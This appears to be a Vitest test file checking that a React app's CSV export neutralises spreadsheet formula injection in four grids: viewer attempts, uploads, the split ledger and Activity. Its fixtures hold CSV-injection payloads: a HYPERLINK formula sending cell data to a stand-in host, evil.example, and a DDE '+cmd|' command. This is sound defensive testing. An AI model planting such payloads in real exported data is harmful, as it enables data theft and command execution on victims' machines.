/**
 * Formula injection, per CSV writer in the renderer: the page export of a viewer grid,
 * a report table, the split ledger and Activity all export through DataGrid's "Export
 * CSV". Each is fed a viewer- or server-controlled cell that a spreadsheet would run
 * (=HYPERLINK, +cmd|, -, @, tab) and the downloaded file must hold it neutralised.
 */
import { act, fireEvent, render, screen, within } from '@testing-library/react';
import type { ColDef } from 'ag-grid-community';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { AuditEntry } from '../../../shared/domain/audit';
import type { LedgerRow } from '../../../shared/domain/live/ledger';
import { DataGrid } from '../../../renderer/src/components/DataGrid';
import { activityColumns, activityRowId } from '../../../renderer/src/features/activity/columns';
import { LedgerFold } from '../../../renderer/src/features/live/LedgerFold';
import { UPLOAD_COLUMNS } from '../../../renderer/src/features/reports/upload-columns';
import { attemptGridColumns } from '../../../renderer/src/features/viewers/columns';
import { useMc } from '../../../renderer/src/stores/store';
import { installFake } from '../fake-bridge';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const CMD = "+cmd|' /C calc'!A0";

/** Clicks the grid's Export CSV and returns the text of the file it downloads. */
async function exportedCsv(label: string, shown: string): Promise<string> {
  const blobs: Blob[] = [];
  const create = vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => (blobs.push(b as Blob), 'blob:csv'));
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
  const region = await screen.findByRole('region', { name: label });
  await within(region).findByText(shown);
  await act(async () => fireEvent.click(within(region).getByRole('button', { name: 'Export CSV' })));
  await vi.waitFor(() => expect(create).toHaveBeenCalledTimes(1));
  return blobs[0]!.text();
}

afterEach(() => vi.restoreAllMocks());

describe('CSV export neutralises formula cells', () => {
  it('in the page export of a viewer grid (attempts: page and referrer URLs are viewer-controlled)', async () => {
    const attempt = { id: 'a1', datetime: '2026-11-22 10:00:00', reason: 'Invalid Auth Token', success: 0, key: 'k', ip: '10.0.0.1', app: 'demo-origin', appinst: 'live', video: 'cam_1', pageurl: HYPERLINK, refurl: CMD, server_ip: '@SUM(1)' };
    render(<DataGrid label="Attempts" rows={[attempt]} columns={attemptGridColumns as ColDef<typeof attempt>[]} getRowId={(r) => r.id} />);
    const csv = await exportedCsv('Attempts', 'cam_1');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(csv).toContain(`"'${CMD}"`);
    expect(csv).toContain(`"'@SUM(1)"`);
    expect(csv).not.toMatch(/(^|,)"[=+@]/m);
  });

  it('in a report table (uploads: paths and messages come from the server)', async () => {
    const upload = { id: 7, path: '-2+3', destination_path: '\t=1+1', acl: 'private', status: 'done', message: HYPERLINK, created: '2026-11-22 10:00:00', last_updated: '2026-11-22 10:00:00' };
    render(<DataGrid label="Uploads" rows={[upload]} columns={UPLOAD_COLUMNS as ColDef<typeof upload>[]} getRowId={(r) => String(r.id)} />);
    const csv = await exportedCsv('Uploads', 'private');
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"'\t=1+1"`);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toMatch(/(^|,)"7"/m); // a number stays a number
  });

  it('in the split ledger (titles and server messages)', async () => {
    const row: LedgerRow = { id: 'r1', time: '2026-11-22T10:00:00.000Z', account: 'Sandbox', profileId: 'sandbox', app: 'demo-origin/live', stream: 'cam_1', requested: 'cam_1', title: HYPERLINK, file: 'recordings/x.mp4', duration: 75, outcome: 'ok', message: CMD, deleted: false };
    installFake().on('live.ledger', { ok: true, value: [row] });
    useMc.setState((s) => ({ live: { ...s.live, ledgerOpen: true } }));
    render(<LedgerFold />);
    const csv = await exportedCsv('Split ledger', 'recordings/x.mp4');
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(`"'${CMD}"`);
  });

  it('in Activity (account names and result messages)', async () => {
    const entry: AuditEntry = { id: 'e1', time: '2026-11-22T10:00:00.000Z', profileId: 'p', profileName: '@evil', command: 'geoblock.update', params: {}, outcome: 'failed', resultKind: 'api_failure', message: HYPERLINK, latencyMs: -1, finishedAt: null };
    render(<DataGrid label="Activity log" rows={[entry]} columns={activityColumns} getRowId={activityRowId} />);
    const csv = await exportedCsv('Activity log', 'Set allowed countries');
    expect(csv).toContain(`"'@evil"`);
    expect(csv).toContain(`"'=HYPERLINK(`);
  });
});

afterEach(() => useMc.setState(useMc.getInitialState(), true));
